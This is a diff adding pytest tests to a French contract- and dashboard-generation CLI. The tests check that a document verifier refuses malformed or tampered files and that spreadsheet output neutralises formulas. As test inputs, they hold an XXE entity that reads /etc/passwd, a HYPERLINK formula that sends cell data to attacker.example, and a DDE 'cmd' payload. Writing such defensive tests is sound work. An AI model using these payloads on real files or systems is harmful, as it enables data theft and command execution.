@@ -349,3 +349,107 @@ def test_M6_undeclared_members_are_dropped_and_duplicates_refused(runner, tmp_pa
             archive.writestr("word/document.xml", source.read("word/document.xml"))
     result = _ccap_with_skeleton(runner, tmp_path, duplicated)
     _refused(result, 2, "en double")
+
+
+# --- verifier-document (M7, M8) ----------------------------------------------------------------
+
+
+def _generated(runner, tmp_path: Path) -> Path:  # type: ignore[no-untyped-def]
+    out = tmp_path / "ccap.docx"
+    result = runner.invoke(cli, ["ccap", str(NETTOYAGE), "-o", str(out)])
+    assert result.exit_code == 0, result.output
+    return out
+
+
+def _with_part(source: Path, target: Path, name: str, change) -> Path:  # type: ignore[no-untyped-def]
+    import zipfile
+
+    with zipfile.ZipFile(source) as archive:
+        parts = {i.filename: archive.read(i.filename) for i in archive.infolist()}
+    new = change(parts[name])
+    if new is None:
+        del parts[name]
+    else:
+        parts[name] = new
+    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
+        for member, data in parts.items():
+            archive.writestr(member, data)
+    return target
+
+
+def test_M7_verifier_document_on_any_file(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    import os
+
+    docx = _generated(runner, tmp_path)
+    empty = tmp_path / "vide.docx"
+    empty.write_bytes(b"")
+    fifo = tmp_path / "fifo.docx"
+    os.mkfifo(fifo)
+    custom = "docProps/custom.xml"
+    doctype = b'<!DOCTYPE p [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
+    cases = {
+        str(ROOT / "README.md"): "ce n'est pas un document Word",
+        str(empty): "ce n'est pas un document Word",
+        "/dev/zero": "ce n'est pas un fichier",
+        str(fifo): "ce n'est pas un fichier",
+        str(_with_part(docx, tmp_path / "tronque.docx", custom, lambda d: d[:50])):
+            "propriétés du document illisibles",
+        str(_with_part(docx, tmp_path / "xxe.docx", custom,
+                       lambda d: d.replace(b"?>", b"?>" + doctype, 1))): "DOCTYPE ou ENTITY interdite",
+    }
+    for path, message in cases.items():
+        result = runner.invoke(cli, ["verifier-document", path])
+        _refused(result, 2, message)
+    bad_version = _with_part(docx, tmp_path / "version.docx", custom,
+                             lambda d: d.replace(b">1.0.0 sha256:", b">abc sha256:", 1))
+    result = runner.invoke(cli, ["verifier-document", str(bad_version)])
+    assert result.exit_code in (0, 1), result.output
+    assert "Traceback" not in result.output
+
+
+FRAGMENT_PROPERTY = rb'<property [^>]*name="clausegen\.fragment\.[^"]*">.*?</property>'
+
+
+def test_M8_verifier_document_detects_changed_text_and_stripped_provenance(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    import re
+
+    docx = _generated(runner, tmp_path)
+    intact = runner.invoke(cli, ["verifier-document", str(docx)])
+    assert intact.exit_code == 0, intact.output
+    assert "Document intact" in intact.output
+    edited = _with_part(docx, tmp_path / "modifie.docx", "word/document.xml",
+                        lambda d: d.replace("à compter de sa notification".encode(),
+                                            "à compter du jour qui lui plaira".encode()))
+    assert edited.read_bytes() != docx.read_bytes()
+    result = runner.invoke(cli, ["verifier-document", str(edited)])
+    _refused(result, 1, "texte modifié depuis la génération")
+    stripped = _with_part(docx, tmp_path / "sans-fragments.docx", "docProps/custom.xml",
+                          lambda d: re.sub(FRAGMENT_PROPERTY, b"", d))
+    result = runner.invoke(cli, ["verifier-document", str(stripped)])
+    _refused(result, 1, "provenance incomplète")
+
+
+# --- dashboard workbook (M9) -------------------------------------------------------------------
+
+
+def test_M9_xlsx_cells_never_start_a_formula_from_user_text(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    import openpyxl
+
+    text = NETTOYAGE.read_text(encoding="utf-8")
+    first = "libelle: Réaliser le prorata annuel des heures d'insertion sur le marché"
+    dossier = tmp_path / "d.yml"
+    link = """libelle: '=HYPERLINK("http://attacker.example/?x="&C2,"Cliquez ici")'"""
+    dossier.write_text(text.replace(first, link)
+                       .replace("indicateur: Heures de travail réalisées par des personnes éligibles, "
+                                "affectées au marché", "indicateur: '=1+1'")
+                       .replace("unite: heures", "unite: \"=cmd|' /C calc'!A0\"", 1), encoding="utf-8")
+    out = tmp_path / "t.xlsx"
+    result = runner.invoke(cli, ["tableau-de-bord", str(dossier), "-o", str(out)])
+    assert result.exit_code == 0, result.output
+    sheet = openpyxl.load_workbook(out)["Année 1"]
+    values = {cell.coordinate: cell for cell in sheet[2]}
+    assert values["B2"].value.startswith("=HYPERLINK")
+    for coordinate in ("B2", "C2", "D2"):
+        assert values[coordinate].data_type == "s", coordinate
+        assert values[coordinate].quotePrefix, coordinate
+    assert sheet["G2"].data_type == "f"  # the workbook's own formula stays a formula
